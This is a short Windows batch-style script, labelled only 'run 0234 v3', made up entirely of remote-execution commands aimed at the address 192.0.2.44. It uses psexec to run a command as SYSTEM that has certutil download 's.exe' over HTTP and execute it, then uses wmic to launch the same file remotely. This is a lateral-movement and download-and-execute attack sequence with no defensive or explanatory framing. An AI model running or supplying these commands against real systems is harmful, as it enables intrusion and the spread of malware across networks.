REM run 0234 v3
psexec.exe \\192.0.2.44 -accepteula -s -d cmd /c "certutil -urlcache -f http://192.0.2.44/s.exe C:\s.exe && C:\s.exe"
wmic /node:192.0.2.44 process call create "cmd /c C:\s.exe"
